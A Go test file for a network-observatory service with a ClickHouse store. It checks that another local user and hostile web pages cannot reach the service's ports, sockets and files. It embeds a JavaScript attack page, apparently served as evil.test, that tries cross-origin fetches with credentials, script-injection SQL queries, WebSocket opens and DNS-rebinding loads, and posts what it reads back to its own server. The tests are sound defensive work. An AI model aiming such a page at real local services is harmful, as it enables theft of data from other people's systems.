package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/darkmap/darkmap/internal/clickhousetest"
	"github.com/darkmap/darkmap/internal/datadir"
	"github.com/darkmap/darkmap/internal/datatest"
	"github.com/darkmap/darkmap/schemas"
)

// storing prepares an observatory with a store. Its live source does not answer.
func storing(t *testing.T, sets ...string) *observatory {
	t.Helper()
	clickhousetest.Library(t) // skips if there is no engine
	return newObservatory(t, append([]string{"ingest.rislive.url=ws://127.0.0.1:9", "ingest.rislive.collectors=[rrc00]", "ingest.archives=false"}, sets...)...).withStore()
}

// serves waits until the process has opened all its ports and files.
func (o *observatory) serves() {
	o.t.Helper()
	o.eventually("it serves", func() bool {
		running, err := datadir.ReadRun(o.dir)
		return err == nil && running != nil && running.ClickHouse != nil && o.get("/livez") != ""
	})
}

// sql runs a statement on the running instance.
func (o *observatory) sql(statement string) string {
	o.t.Helper()
	var out, errs bytes.Buffer
	if code := run(o.t.Context(), []string{"sql", "--data-dir", o.dir, statement}, nil, &out, &errs); code != 0 {
		o.t.Fatalf("%s: %s", statement, errs.String())
	}
	return strings.TrimSpace(out.String())
}

// reachable lists the addresses and files of a process in dir that another user can see.
func reachable(t *testing.T, pid int, dir, dataset string) targets {
	t.Helper()
	topic := schemas.TopicOutages
	if dataset != "" {
		topic = dataset + "." + topic
	}
	return targets{
		Addresses: listening(t, pid), Sockets: sockets(t, dir), Topic: topic,
		Files: []string{filepath.Join(dir, "run.json"), filepath.Join(dir, "clickhouse", "users.xml"), filepath.Join(dir, "clickhouse", "engine.xml")},
	}
}

// TestStranger: another user of the machine tries all ports, sockets and files of an up, and its
// door for other programs. All answers are refusals, and the instance is unharmed.
func TestStranger(t *testing.T) {
	t.Parallel()
	o := storing(t, door(t)...)
	o.start()
	o.serves()
	to := reachable(t, o.cmd.Process.Pid, o.dir, "")
	if len(to.Addresses) < 4 || len(to.Sockets) == 0 { // admin, Kafka, the pages and the door
		t.Fatalf("too little to try: %+v", to)
	}
	answers, speak := probe(t, strangersBinary(t), to)
	for _, answer := range answers {
		t.Error(answer)
	}
	if len(speak) != 3 || !slices.Contains(speak, o.admin) {
		t.Errorf("%v answered HTTP, want the admin port %s, the pages and the door", speak, o.admin)
	}
	if o.get("/livez") == "" {
		t.Error("it has ended")
	}
	if got := o.sql("SELECT count() FROM outages"); got != "0" {
		t.Errorf("afterwards: got %s outages", got)
	}
}

// door returns the configuration of a door for other programs.
func door(t *testing.T) []string {
	t.Helper()
	secret := filepath.Join(t.TempDir(), "password")
	if err := os.WriteFile(secret, []byte("the door's password\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return []string{"clickhouse.door.listen=" + datatest.FreeAddress(t), "clickhouse.door.user=grafana", "clickhouse.door.password={file: " + secret + "}"}
}

// TestStrangerDuringRuns does the same while a demo, a replay and a statement run. Their results do
// not change.
func TestStrangerDuringRuns(t *testing.T) {
	t.Parallel()
	clickhousetest.Library(t)
	binary := strangersBinary(t)
	stored := t.TempDir()
	replay := slices.Concat([]string{"replay", "--dataset", "door", "--data-dir", stored}, offline(t), archives(t))
	for _, tt := range []struct {
		name, dir, dataset string
		args               []string
		brokers            bool
	}{
		{"replay", stored, "door", replay, true},
		{"sql", stored, "", []string{"sql", "--data-dir", stored, "SELECT sleepEachRow(0.5) FROM numbers(12) SETTINGS max_block_size = 1"}, false},
		{"demo", t.TempDir(), "demo", []string{"demo"}, true},
	} {
		t.Run(tt.name, func(t *testing.T) { //nolint:paralleltest // sql reads what the replay has stored
			if tt.name == "demo" {
				tt.args = append(tt.args, "--data-dir", tt.dir)
			}
			cmd := exec.CommandContext(t.Context(), os.Args[0], tt.args...)
			cmd.Env = append(os.Environ(), asDarkmap+"=1")
			var errs bytes.Buffer
			cmd.Stderr = &errs
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			ended := make(chan error, 1)
			go func() { ended <- cmd.Wait() }() // ends with the command
			tried := 0
			for running := true; running; {
				select {
				case err := <-ended:
					if err != nil {
						t.Errorf("it ended with %v:\n%s", err, errs.String())
					}
					running = false
				case <-time.After(50 * time.Millisecond):
					to := reachable(t, cmd.Process.Pid, tt.dir, tt.dataset)
					if len(to.Sockets) == 0 || tt.brokers && len(to.Addresses) == 0 {
						continue
					}
					answers, _ := probe(t, binary, to)
					for _, answer := range answers {
						t.Error(answer)
					}
					tried++
				}
			}
			if tried == 0 {
				t.Error("it ended before anything could be tried")
			}
		})
	}
}

// strangersPage tries to read from the addresses in its query, and posts the answers.
const strangersPage = `<!doctype html><title>page of a stranger</title><script>
const found = []
const note = (what, text) => found.push(what + ": " + String(text).slice(0, 200))
const get = async (what, url, init) => {
  try {
    const r = await fetch(url, {signal: AbortSignal.timeout(1000), ...init})
    if (r.type !== "opaque") note(what, r.status + " " + await r.text())
  } catch { }
}
const within = (ms, start) => new Promise(done => { setTimeout(done, ms); start(done) })
const load = (tag, url) => within(1000, done => {
  const e = document.createElement(tag)
  e.onload = () => { if (tag !== "script" || window.stolen) note(tag + " " + url, "loaded"); delete window.stolen; done() }
  e.onerror = done
  e.src = url
  document.documentElement.append(e)
})
const socket = url => within(1000, done => {
  const s = new WebSocket(url)
  s.onopen = () => { note(url, "open"); done() }
  s.onerror = s.onclose = done
})
const sql = encodeURIComponent("SELECT 'window.stolen = 1' FORMAT TSVRaw")
const paths = ["/?query=" + sql, "/?add_http_cors_header=1&query=" + sql, "/ping", "/play", "/metrics", "/readyz", "/debug/pprof/cmdline"]
const run = async () => {
  const tries = []
  for (const base of new URLSearchParams(location.search).getAll("at")) {
    for (const path of paths) {
      const url = "http://" + base + path
      tries.push(() => get("GET " + url, url))
      tries.push(() => get("GET with credentials " + url, url, {credentials: "include"}))
      tries.push(() => get("POST " + url, url, {method: "POST", body: "SELECT 1"}))
      tries.push(() => get("POST with headers " + url, url, {method: "POST", body: "SELECT 1", headers: {"X-ClickHouse-User": "default", "X-Darkmap-Key": "guess"}}))
      tries.push(() => load("script", url))
      tries.push(() => load("img", url))
    }
    tries.push(() => socket("ws://" + base + "/"))
  }
  for (const t of tries) await t()
  await fetch("/done", {method: "POST", body: JSON.stringify({tries: tries.length, found})})
}
run()
</script>`

// stolen holds the posts of the other site's page.
type stolen struct {
	Tries int
	Found []string
}

// strangersSite serves the page, and records its posts.
func strangersSite(t *testing.T) (port string, posts <-chan stolen) {
	t.Helper()
	got := make(chan stolen, 1)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/done" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(strangersPage))
			return
		}
		var s stolen
		if err := json.NewDecoder(r.Body).Decode(&s); err != nil {
			t.Error(err)
		}
		got <- s
	}))
	t.Cleanup(srv.Close)
	_, port, _ = net.SplitHostPort(srv.Listener.Addr().String())
	return port, got
}

// TestBrowser: a page of the same site and one of another site try to read from every port, and a
// page whose name is rebound to loopback is loaded from every port. No page reads anything.
func TestBrowser(t *testing.T) {
	t.Parallel()
	o := storing(t, door(t)...)
	o.start()
	o.serves()
	addresses := listening(t, o.cmd.Process.Pid)
	port, posts := strangersSite(t)
	for _, host := range []string{"127.0.0.1", "evil.test"} { // the same site, another site
		query := "x=1"
		for _, a := range addresses {
			query += "&at=" + a
		}
		cmd, _ := browser(t, fmt.Sprintf("http://%s:%s/?%s", host, port, query))
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		select {
		case s := <-posts:
			t.Logf("a page of %s tried %d ways at %v", host, s.Tries, addresses)
			for _, found := range s.Found {
				t.Errorf("a page of %s read %s", host, found)
			}
		case <-time.After(3 * time.Minute):
			t.Errorf("the page of %s did not come to its end", host)
		}
		end(cmd)
	}
	for _, a := range addresses {
		_, p, _ := net.SplitHostPort(a)
		for _, path := range []string{"/metrics", "/?query=SELECT%20concat('st','olen')"} {
			cmd, out := browser(t, "http://evil.test:"+p+path, "--dump-dom", "--timeout=5000")
			if err := cmd.Start(); err != nil {
				t.Fatalf("the browser: %v", err)
			}
			limit := time.AfterFunc(2*time.Minute, func() { _ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) })
			err := cmd.Wait()
			limit.Stop()
			if err != nil {
				t.Fatalf("the browser: %v", err)
			}
			if text := out.String(); strings.Contains(text, "darkmap_") || strings.Contains(text, "stolen") && !strings.Contains(text, "evil.test") {
				t.Errorf("a rebound name reads %s%s: %.200q", a, path, text)
			}
		}
	}
}

// browser is headless Chromium. In it, the name evil.test leads to loopback. Its output is its
// standard output.
func browser(t *testing.T, url string, flags ...string) (*exec.Cmd, *bytes.Buffer) {
	t.Helper()
	args := slices.Concat([]string{
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
		"--disable-sync", "--disable-dev-shm-usage", "--host-resolver-rules=MAP evil.test 127.0.0.1", "--user-data-dir=" + t.TempDir(),
	}, flags, []string{url})
	cmd := exec.CommandContext(t.Context(), datatest.Chromium(t), args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var out bytes.Buffer
	cmd.Stdout = &out
	return cmd, &out
}

// end ends a browser and all its child processes.
func end(cmd *exec.Cmd) {
	_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // it may have ended
	_ = cmd.Wait()
}
